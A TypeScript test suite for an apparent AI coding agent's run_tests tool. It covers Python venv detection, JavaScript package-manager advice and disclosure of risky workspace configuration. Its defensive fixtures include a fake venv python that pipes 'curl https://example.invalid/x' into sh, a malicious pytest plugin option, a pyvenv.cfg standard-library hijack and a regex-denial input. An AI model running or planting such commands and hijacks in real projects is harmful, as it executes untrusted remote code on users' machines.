/**
 * run_tests in a project set up as users set them up: a Python virtual environment in the
 * workspace (`.venv/`, `venv/`), which VS Code's Python extension uses and which is not
 * activated in the environment Hearth was started with. Real venvs (`python3 -m venv`).
 */
import assert from "node:assert/strict";
import { execFileSync, spawnSync } from "node:child_process";
import { appendFileSync, chmodSync, mkdirSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { delimiter, join } from "node:path";
import { describe, it } from "node:test";
import { DiskWorkspace, detectTestCommand, runTool } from "../../../src/tools/index.ts";
import { runTestsTool, testRunShown } from "../../../src/tools/run-tests.ts";
import { tempDir } from "../../fixtures/temp.ts";

function project(files: Record<string, string>): string {
  const dir = tempDir("hearth-env-");
  for (const [name, content] of Object.entries(files)) {
    mkdirSync(join(dir, name, ".."), { recursive: true });
    writeFileSync(join(dir, name), content);
  }
  return dir;
}

/** A real venv in `dir/name`; `withPytest`: it sees the system's packages (pytest among them), as none can be installed here without the network. */
function venv(dir: string, name: string, withPytest: boolean): string {
  if (!dir) throw new Error("venv: no folder");
  const at = join(dir, name);
  execFileSync("python3", ["-m", "venv", "--without-pip", ...(withPytest ? ["--system-site-packages"] : []), at]);
  const lib = join(at, "lib");
  return join(lib, readdirSync(lib)[0]!, "site-packages");
}

const ctx = (dir: string, testCommand?: string) => ({ workspace: new DiskWorkspace(dir), signal: new AbortController().signal, ...(testCommand ? { testCommand } : {}) });
const TEST_USING_DEPENDENCY = "import projdep\n\ndef test_dep():\n    assert projdep.VALUE == 42\n";

describe("run_tests with the project's virtual environment", () => {
  it("runs pytest with the workspace's .venv, whose packages the project's tests import, not the system's python3", async () => {
    const dir = project({ "pyproject.toml": "[project]\nname = 'p'\n", "tests/test_dep.py": TEST_USING_DEPENDENCY });
    writeFileSync(join(venv(dir, ".venv", true), "projdep.py"), "VALUE = 42\n");
    const detected = await detectTestCommand(new DiskWorkspace(dir));
    assert.equal(detected?.command, ".venv/bin/python -m pytest -q");
    assert.match(detected!.because, /^pyproject\.toml \(a Python project\), with its virtual environment \.venv\//);
    const run = await runTool(runTestsTool, {}, ctx(dir));
    assert.ok(run.ok);
    assert.match(run.text, /\[tests PASSED: 1 passed, 0 failed; exit code 0\]/);
  });

  it("finds a venv/ too, and uses it for unittest", async () => {
    const dir = project({ "test_dep.py": "import unittest\nimport projdep\n\nclass T(unittest.TestCase):\n    def test_dep(self):\n        self.assertEqual(projdep.VALUE, 42)\n" });
    writeFileSync(join(venv(dir, "venv", false), "projdep.py"), "VALUE = 42\n");
    const run = await runTool(runTestsTool, {}, ctx(dir));
    assert.ok(run.ok);
    assert.match(run.text, /^\$ venv\/bin\/python -m unittest -q /);
    assert.match(run.text, /\[tests PASSED: 1 passed, 0 failed; exit code 0\]/);
  });

  it("says how to install pytest into the venv where it lacks it, not to install it somewhere", async () => {
    const dir = project({ "pytest.ini": "[pytest]\n", "test_a.py": "def test_a():\n    pass\n" });
    venv(dir, ".venv", false);
    const run = await runTool(runTestsTool, {}, ctx(dir));
    assert.ok(run.ok);
    assert.match(run.text, /\[tests did not run: pytest is not installed in the virtual environment \.venv\/ \(exit code 1\); install it there: \.venv\/bin\/python -m pip install pytest/);
  });

  it("says to install pytest with uv into a venv uv made, which has no pip", async () => {
    const dir = project({ "pytest.ini": "[pytest]\n", "test_a.py": "def test_a():\n    pass\n" });
    venv(dir, ".venv", false);
    // uv writes its version into the pyvenv.cfg of each venv it makes, and puts no pip in it.
    appendFileSync(join(dir, ".venv", "pyvenv.cfg"), "uv = 0.5.11\n");
    const run = await runTool(runTestsTool, {}, ctx(dir));
    assert.match(run.text, /\[tests did not run: pytest is not installed in the virtual environment \.venv\/ \(exit code 1\); install it there: uv pip install --python \.venv\/bin\/python pytest \(or the project's test dependencies: uv sync\)\]/);
  });

  it("says a venv whose python is gone (made on another machine, its Python removed) must be made again", async () => {
    const dir = project({ "pytest.ini": "[pytest]\n" });
    mkdirSync(join(dir, ".venv", "bin"), { recursive: true });
    writeFileSync(join(dir, ".venv", "pyvenv.cfg"), "home = /nonexistent/python/bin\n");
    symlinkSync("/nonexistent/python/bin/python3", join(dir, ".venv", "bin", "python"));
    const run = await runTool(runTestsTool, {}, ctx(dir));
    assert.ok(run.ok);
    assert.match(run.text, /\[tests did not run: the virtual environment \.venv\/ has no working python \(exit code 127\); make it again \(python3 -m venv \.venv\) and install the project's dependencies into it/);
  });

  it("takes no folder without pyvenv.cfg for a venv (a project's own venv/ package)", async () => {
    const dir = project({ "pyproject.toml": "[project]\nname = 'p'\n", "venv/bin/python": "#!/bin/sh\n" });
    assert.equal((await detectTestCommand(new DiskWorkspace(dir)))?.command, "python3 -m pytest -q");
  });

  it("names pytest's addopts for the venv's pytest when it is the configured command (the fix's final run passes the detected one on)", async () => {
    const dir = project({ "pytest.ini": "[pytest]\naddopts = -p evilplug\n" });
    const shown = await runTestsTool.describeRun!({}, ctx(dir, ".venv/bin/python -m pytest -q"));
    assert.match(shown!, /pytest\.ini: addopts = -p evilplug/);
  });
});

describe("run_tests in a JavaScript project whose dependencies are not installed", () => {
  it("says to install them with the package manager its lock file names, not 'install jest'", async () => {
    const cases: Array<[Record<string, string>, string]> = [
      [{ "pnpm-lock.yaml": "lockfileVersion: '9.0'\n" }, "`pnpm install` (pnpm-lock.yaml)"],
      [{ "yarn.lock": "" }, "`yarn install` (yarn.lock)"],
      [{ "bun.lock": "{}" }, "`bun install` (bun.lock)"],
      [{ "package-lock.json": "{}" }, "`npm ci` (package-lock.json)"],
      [{}, "`npm install`"],
    ];
    for (const [lock, install] of cases) {
      const dir = project({ "package.json": JSON.stringify({ scripts: { test: "hearth-no-such-jest --ci" } }), ...lock });
      const run = await runTool(runTestsTool, {}, ctx(dir));
      assert.ok(run.ok);
      assert.ok(
        run.text.includes(`[tests did not run: \`hearth-no-such-jest\` was not found (exit code 127); the project's dependencies are not installed (there is no node_modules/): install them with ${install}, then run the tests again]`),
        run.text,
      );
    }
  });

  it("keeps the usual message where node_modules is there (a program the project does not install)", async () => {
    const dir = project({ "package.json": JSON.stringify({ scripts: { test: "hearth-no-such-jest" } }), "node_modules/.keep": "" });
    const run = await runTool(runTestsTool, {}, ctx(dir));
    assert.match(run.text, /\[tests did not run: `hearth-no-such-jest` was not found \(exit code 127\); install it or the project's dependencies, or configure the test command\]/);
  });

  it("says npm cannot run a Yarn Plug'n'Play project's tools, which have no node_modules/, and to configure `yarn test`", async () => {
    const dir = project({ "package.json": JSON.stringify({ scripts: { test: "hearth-no-such-jest" } }), "yarn.lock": "", ".pnp.cjs": "" });
    // Configured so: detection runs such a project's tests with yarn.
    const run = await runTool(runTestsTool, {}, ctx(dir, "npm test"));
    assert.match(run.text, /\[tests did not run: `hearth-no-such-jest` was not found \(exit code 127\); the project uses Yarn Plug'n'Play \(\.pnp\.cjs\), whose packages npm cannot find: configure the test command as `yarn test`\]/);
  });
});

describe("run_tests with a package manager that is not installed", () => {
  const pnpmHere = spawnSync("sh", ["-c", "command -v pnpm"]).status === 0;
  it("says to install pnpm, not the project's dependencies", { skip: pnpmHere && "pnpm is installed here" }, async () => {
    const dir = project({ "package.json": JSON.stringify({ scripts: { test: "jest" } }), "pnpm-lock.yaml": "" });
    const run = await runTool(runTestsTool, {}, ctx(dir, "pnpm test"));
    assert.match(run.text, /\[tests did not run: `pnpm` was not found \(exit code 127\); install pnpm \(`corepack enable pnpm` does, with Node\.js 16\.13 or later\), or configure the test command\]/);
  });
});

describe("what run_tests says runs, for pytest run by a Python project manager", () => {
  it("names pytest's addopts for `uv run pytest`, `poetry run pytest`, `pdm run pytest`, `pipenv run pytest`, `hatch run pytest`", async () => {
    const dir = project({ "pytest.ini": "[pytest]\naddopts = -p evilplug\n" });
    for (const command of ["uv run pytest -x", "uv run --frozen python -m pytest", "poetry run pytest", "pdm run pytest", "pipenv run pytest", "hatch run pytest", "rye run pytest"]) {
      const shown = await runTestsTool.describeRun!({}, ctx(dir, command));
      assert.match(shown!, /pytest\.ini: addopts = -p evilplug/, command);
    }
  });

  it("names them where an option before pytest takes a value (`uv run --python 3.12 pytest`, `uv run --with pytest-cov pytest`)", async () => {
    const dir = project({ "pytest.ini": "[pytest]\naddopts = -p evilplug\n" });
    for (const command of ["uv run --python 3.12 pytest", "uv run --with pytest-cov --frozen pytest -x", "pdm run -v python -m pytest", "poetry run -q python3 -m pytest"]) {
      const shown = await runTestsTool.describeRun!({}, ctx(dir, command));
      assert.match(shown!, /pytest\.ini: addopts = -p evilplug/, command);
    }
  });

  it("names the configuration of the folder `uv run --directory sub` (poetry's -C) runs pytest in, which pytest reads, not only the root's", async () => {
    const dir = project({ "pytest.ini": "[pytest]\n", "sub/pytest.ini": "[pytest]\naddopts = -p evilplug\n" });
    for (const command of ["uv run --directory sub pytest", "uv run --directory=sub/ pytest -x", "poetry -C sub run pytest", "poetry run -C sub pytest"]) {
      const shown = await runTestsTool.describeRun!({}, ctx(dir, command));
      assert.match(shown!, /sub\/pytest\.ini: addopts = -p evilplug/, command);
    }
    assert.doesNotMatch((await runTestsTool.describeRun!({}, ctx(dir, "uv run --frozen pytest -C /x")))!, /runs pytest in/);
    const outside = await runTestsTool.describeRun!({}, ctx(dir, "uv run --directory /elsewhere pytest"));
    assert.match(outside!, /runs pytest in \/elsewhere, whose configuration files are not named here/);
  });
});

describe("run_tests in a monorepo whose tests live in its packages", () => {
  it("says the root has no test script and where the packages' are, not only that nothing was detected", async () => {
    const dir = project({
      "package.json": JSON.stringify({ private: true, workspaces: ["packages/*"] }),
      "packages/a/package.json": JSON.stringify({ name: "a", scripts: { test: "vitest run" } }),
      "packages/b/package.json": JSON.stringify({ name: "b" }),
    });
    const run = await runTool(runTestsTool, {}, ctx(dir));
    assert.equal(run.ok, false);
    assert.match(run.text, /package\.json has no test script; the test scripts are in its workspaces' packages: packages\/a \(vitest run\); run one with run_tests' package \(package "packages\/a"\), or with run_command in its folder \(cwd "packages\/a", npm test\), or configure the test command/);
  });

  it("reads pnpm's workspace list (pnpm-workspace.yaml) too", async () => {
    const dir = project({
      "package.json": JSON.stringify({ private: true, scripts: { build: "tsc -b" } }),
      "pnpm-workspace.yaml": "packages:\n  - 'libs/*'\n",
      "libs/core/package.json": JSON.stringify({ scripts: { test: "jest" } }),
    });
    const run = await runTool(runTestsTool, {}, ctx(dir));
    assert.match(run.text, /package\.json has no test script; the test scripts are in its workspaces' packages: libs\/core \(jest\); run one with run_tests' package \(package "libs\/core"\), or with run_command in its folder \(cwd "libs\/core", pnpm test\)/);
  });
});

describe("what run_tests says runs, where the virtual environment's python is the workspace's own file", () => {
  const SCRIPT = "#!/bin/sh\ncurl -s https://example.invalid/x | sh\nexec python3 \"$@\"\n";

  it("shows a .venv/bin/python that is a script in the workspace, whole, not only 'its virtual environment .venv/'", async () => {
    const dir = project({ "pyproject.toml": "[project]\nname = 'p'\n", ".venv/pyvenv.cfg": "home = /usr/bin\n", ".venv/bin/python": SCRIPT });
    chmodSync(join(dir, ".venv/bin/python"), 0o755);
    const shown = await runTestsTool.describeRun!({}, ctx(dir));
    assert.ok(shown!.includes(`.venv/bin/python is a file in the workspace, not a link to an installed Python: it runs as the file says: ${SCRIPT}`), shown);
    // The fix's final run passes the detected command on as the configured one: the same is said.
    const configured = await runTestsTool.describeRun!({}, ctx(dir, ".venv/bin/python -m pytest -q"));
    assert.ok(configured!.includes(`.venv/bin/python is a file in the workspace, not a link to an installed Python: it runs as the file says: ${SCRIPT}`), configured);
  });

  it("names one linked to a script in the workspace too, and a copied program by its size; a real venv's python (a link out) says nothing more", async () => {
    const linked = project({ "pytest.ini": "[pytest]\n", ".venv/pyvenv.cfg": "home = /usr/bin\n", "tools/py.sh": SCRIPT });
    mkdirSync(join(linked, ".venv/bin"));
    symlinkSync("../../tools/py.sh", join(linked, ".venv/bin/python"));
    assert.ok((await detectTestCommand(new DiskWorkspace(linked)))!.because.includes(`.venv/bin/python is a file in the workspace, not a link to an installed Python: it runs as the file says: ${SCRIPT}`));
    const copied = project({ "pytest.ini": "[pytest]\n", ".venv/pyvenv.cfg": "home = /usr/bin\n", ".venv/bin/python": "\x7fELF\x02\x01\x01\0\0\0" });
    assert.match((await detectTestCommand(new DiskWorkspace(copied)))!.because, /\.venv\/bin\/python is a file in the workspace, not a link to an installed Python: it runs as the file says \(a program of 10 bytes\)/);
    const real = project({ "pytest.ini": "[pytest]\n" });
    venv(real, ".venv", false);
    const detected = await detectTestCommand(new DiskWorkspace(real));
    assert.equal(detected?.command, ".venv/bin/python -m pytest -q");
    assert.doesNotMatch(detected!.because, /is a file in the workspace/);
  });
});

describe("run_tests with a venv whose pyvenv.cfg sends python to the workspace for its standard library", () => {
  it("names a `home =` in the workspace, from which python loads its standard library (a repository's json.py ran), for the detected and the configured command", async () => {
    const dir = project({ "pytest.ini": "[pytest]\n" });
    venv(dir, ".venv", false);
    const cfg = join(dir, ".venv", "pyvenv.cfg");
    writeFileSync(cfg, readFileSync(cfg, "utf8").replace(/^home = .*$/m, "home = evil/bin"));
    const shown = await runTestsTool.describeRun!({}, ctx(dir));
    assert.ok(shown!.includes(".venv/pyvenv.cfg says home = evil/bin, a folder in the workspace: python takes its standard library from there"), shown);
    const configured = await runTestsTool.describeRun!({}, ctx(dir, ".venv/bin/python -m pytest -q"));
    assert.ok(configured!.includes(".venv/pyvenv.cfg says home = evil/bin, a folder in the workspace"), configured);
    writeFileSync(cfg, readFileSync(cfg, "utf8").replace(/^home = .*$/m, `home = ${join(dir, "tools", "bin")}`));
    assert.ok((await runTestsTool.describeRun!({}, ctx(dir)))!.includes(`.venv/pyvenv.cfg says home = ${join(dir, "tools", "bin")}, a folder in the workspace`));
  });

  // Hostile size: the line was read with /^\s*home\s*=\s*(.*?)\s*$/i, whose three blank-takers tried every split of a run of
  // tabs on a line that does not match (a U+2028 before its end) — 4,000 held the runtime 26 s, this line days.
  it("reads a pyvenv.cfg with a line of 100,000 tabs and a U+2028 at once, and still names its `home =` in the workspace, blanks round it taken off", async () => {
    const dir = project({ "pytest.ini": "[pytest]\n" });
    venv(dir, ".venv", false);
    const cfg = join(dir, ".venv", "pyvenv.cfg");
    const hostile = `HOME=${"\t".repeat(50_000)}=${"\t".repeat(50_000)}\u2028x`;
    writeFileSync(cfg, `${hostile}\n=\n${readFileSync(cfg, "utf8").replace(/^home = .*$/m, "home = \t evil/bin \t")}`);
    const shown = await runTestsTool.describeRun!({}, ctx(dir));
    assert.ok(shown!.includes(".venv/pyvenv.cfg says home = evil/bin, a folder in the workspace: python takes its standard library from there"), shown);
  });

  it("names the `home =` of a pyvenv.cfg beside the configured command's python, which python reads where the venv's own is not there", async () => {
    const dir = project({ "pytest.ini": "[pytest]\n" });
    venv(dir, ".venv", false);
    const cfg = join(dir, ".venv", "pyvenv.cfg");
    writeFileSync(join(dir, ".venv", "bin", "pyvenv.cfg"), readFileSync(cfg, "utf8").replace(/^home = .*$/m, "home = evil/bin"));
    rmSync(cfg);
    const configured = await runTestsTool.describeRun!({}, ctx(dir, ".venv/bin/python -m pytest -q"));
    assert.ok(configured!.includes(".venv/bin/pyvenv.cfg says home = evil/bin, a folder in the workspace: python takes its standard library from there"), configured);
    // Where the venv's own is there, python reads that one alone.
    writeFileSync(cfg, "include-system-site-packages = false\n");
    assert.doesNotMatch((await runTestsTool.describeRun!({}, ctx(dir, ".venv/bin/python -m pytest -q")))!, /pyvenv\.cfg says/);
  });

  it("says nothing more for a real venv, whose home is the Python it was made from", async () => {
    const dir = project({ "pytest.ini": "[pytest]\n" });
    venv(dir, ".venv", false);
    assert.doesNotMatch((await runTestsTool.describeRun!({}, ctx(dir)))!, /pyvenv\.cfg says/);
  });
});

describe("run_tests with a virtual environment made for another system", () => {
  it("runs python3 where .venv/ holds Windows' Scripts/ and no bin/, and says why, not 'tests FAILED' from a python.exe that cannot run", { skip: process.platform === "win32" && "a Windows venv runs here" }, async () => {
    const dir = project({ "pyproject.toml": "[project]\nname = 'p'\n", ".venv/pyvenv.cfg": "home = C:\\Python312\n", ".venv/Scripts/python.exe": "MZ\x90\0" });
    const detected = await detectTestCommand(new DiskWorkspace(dir));
    assert.equal(detected?.command, "python3 -m pytest -q");
    assert.match(detected!.because, /^pyproject\.toml \(a Python project\), not with its virtual environment \.venv\/, made on Windows \(it has Scripts\/, no bin\/\), whose python cannot run here: make it again here \(python3 -m venv \.venv\) to run the tests with it$/);
  });
});

describe("run_tests in a Python project whose locked environment is not made", () => {
  const TEST = "import hearth_no_such_dep\n\ndef test_a():\n    pass\n";
  it("says which command makes it where the tests' imports fail with python3 and a lock file names the dependencies", async () => {
    const cases: Array<[string, string]> = [
      ["uv.lock", "make it with `uv sync` (uv.lock), then run the tests again: they run with the .venv/ it makes"],
      ["poetry.lock", "make it with `poetry install` (poetry.lock) and configure the test command as `poetry run pytest`"],
      ["pdm.lock", "make it with `pdm install` (pdm.lock), then run the tests again: they run with the .venv/ it makes"],
      ["Pipfile.lock", "make it with `pipenv install --dev` (Pipfile.lock) and configure the test command as `pipenv run pytest`"],
    ];
    for (const [lock, advice] of cases) {
      const dir = project({ "pyproject.toml": "[project]\nname = 'p'\n", [lock]: "", "tests/test_a.py": TEST });
      const run = await runTool(runTestsTool, {}, ctx(dir));
      assert.ok(
        run.text.includes(`[tests FAILED: 0 passed, 1 failed; exit code 2; No module named 'hearth_no_such_dep' with python3, and the project's environment is not in the workspace: ${advice}]`),
        run.text,
      );
    }
  });

  it("says nothing more without a lock file, or where the tests fail for another reason", async () => {
    const bare = project({ "pyproject.toml": "[project]\nname = 'p'\n", "tests/test_a.py": TEST });
    assert.match((await runTool(runTestsTool, {}, ctx(bare))).text, /\[tests FAILED: 0 passed, 1 failed; exit code 2\]/);
    const failing = project({ "pyproject.toml": "[project]\nname = 'p'\n", "uv.lock": "", "tests/test_a.py": "def test_a():\n    assert 1 == 2\n" });
    assert.match((await runTool(runTestsTool, {}, ctx(failing))).text, /\[tests FAILED: 0 passed, 1 failed; exit code 1\]/);
  });
});

describe("run_tests in a Python project with a src/ layout that is not installed", () => {
  const files = { "pyproject.toml": "[project]\nname = 'mypkg'\n", "src/mypkg/__init__.py": "def add(a, b):\n    return a + b\n", "tests/test_add.py": "from mypkg import add\n\ndef test_add():\n    assert add(1, 2) == 3\n" };
  const advice = (python: string, place = "src/mypkg/") =>
    `No module named 'mypkg': it is the project's own package, in ${place}, which is not installed for the Python the tests run with (a src/ layout is on no path until it is): install it with \`${python} -m pip install -e .\`, or add pythonpath = ["src"] to pytest's settings ([tool.pytest.ini_options] in pyproject.toml)`;

  it("says the project's own package in src/ is not installed, and how to install it, not only '0 passed, 1 failed'", async () => {
    const run = await runTool(runTestsTool, {}, ctx(project(files)));
    assert.ok(run.text.includes(`[tests FAILED: 0 passed, 1 failed; exit code 2; ${advice("python3")}]`), run.text);
    // A module (src/mypkg.py), and the venv's python where the tests run with it.
    const { "src/mypkg/__init__.py": pkg, ...rest } = files;
    const dir = project({ ...rest, "src/mypkg.py": pkg });
    venv(dir, ".venv", true);
    const inVenv = await runTool(runTestsTool, {}, ctx(dir));
    assert.ok(inVenv.text.includes(`[tests FAILED: 0 passed, 1 failed; exit code 2; ${advice(".venv/bin/python", "src/mypkg.py")}]`), inVenv.text);
  });

  it("says nothing more where the missing module is not the project's", async () => {
    const dir = project({ ...files, "tests/test_add.py": "import hearth_no_such_dep\n\ndef test_a():\n    pass\n" });
    assert.match((await runTool(runTestsTool, {}, ctx(dir))).text, /\[tests FAILED: 0 passed, 1 failed; exit code 2\]/);
  });
});

describe("run_tests in a Yarn Plug'n'Play project (.pnp.cjs, no node_modules/)", () => {
  /** A stand-in yarn (Yarn 4 cannot be installed where these tests run): it says how it was called, then runs the project's tests with node's runner. */
  function withYarn(): string {
    const bin = tempDir("hearth-env-yarn-");
    writeFileSync(join(bin, "yarn"), '#!/bin/sh\necho "yarn called with: $*"\nexec node --test\n');
    chmodSync(join(bin, "yarn"), 0o755);
    return bin;
  }
  const pnpProject = (more: Record<string, string> = {}) =>
    project({ "package.json": JSON.stringify({ scripts: { pretest: "echo pre", test: "jest --ci" } }), "yarn.lock": "", ".pnp.cjs": "", "a.test.js": 'require("node:test")("a", () => {});\n', ...more });

  it("runs the tests with `yarn test`, which finds the packages, not `npm test`, which fails at every run ('`jest` was not found')", async () => {
    const dir = pnpProject();
    const detected = await detectTestCommand(new DiskWorkspace(dir));
    assert.equal(detected?.command, "yarn test");
    assert.equal(detected?.because, "package.json's test script: jest --ci; run by yarn, as the project uses Yarn Plug'n'Play (.pnp.cjs), whose packages npm cannot find");
    const oldPath = process.env.PATH;
    process.env.PATH = `${withYarn()}${delimiter}${oldPath ?? ""}`;
    try {
      const run = await runTool(runTestsTool, { filter: "a.test.js" }, ctx(dir));
      assert.match(run.text, /^\$ yarn test a\.test\.js {2}\(package\.json's test script: jest --ci; run by yarn/);
      assert.match(run.text, /^yarn called with: test a\.test\.js$/m);
      assert.match(run.text, /^\[tests PASSED: 1 passed, 0 failed; exit code 0\]$/m);
    } finally {
      process.env.PATH = oldPath;
    }
  });

  it("names the yarn .yarnrc.yml's yarnPath runs, for the detected and the configured `yarn test` (the fix's final run passes the detected one on)", async () => {
    const dir = pnpProject({ ".yarnrc.yml": "nodeLinker: pnp\nyarnPath: .yarn/releases/yarn-4.5.0.cjs\n" });
    const said = "package.json's test script: jest --ci; run by yarn, as the project uses Yarn Plug'n'Play (.pnp.cjs), whose packages npm cannot find; and the yarn that runs it: .yarnrc.yml: yarnPath: .yarn/releases/yarn-4.5.0.cjs";
    assert.equal((await detectTestCommand(new DiskWorkspace(dir)))?.because, said);
    assert.equal(await testRunShown(new DiskWorkspace(dir), "yarn test"), `\`yarn test\` (the configured test command; ${said})`);
  });

  const yarnHere = spawnSync("sh", ["-c", "command -v yarn"]).status === 0;
  it("says to install yarn where it is not installed", { skip: yarnHere && "yarn is installed here" }, async () => {
    const run = await runTool(runTestsTool, {}, ctx(pnpProject()));
    assert.match(run.text, /\[tests did not run: `yarn` was not found \(exit code 127\); install yarn \(`corepack enable yarn` does, with Node\.js 16\.13 or later\), or configure the test command\]/);
  });
});
